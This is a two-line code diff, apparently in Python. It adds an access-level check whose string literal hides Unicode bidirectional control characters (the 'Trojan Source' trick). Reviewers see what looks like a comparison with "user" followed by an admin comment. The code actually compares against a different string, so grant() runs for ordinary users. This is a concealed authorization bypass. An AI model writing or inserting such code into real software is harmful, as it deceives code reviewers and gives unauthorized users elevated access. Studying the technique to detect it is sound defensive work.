@@ -1,0 +1,2 @@
+if access_level != "user‮ ⁦# admin⁩ ⁦":
+    grant()
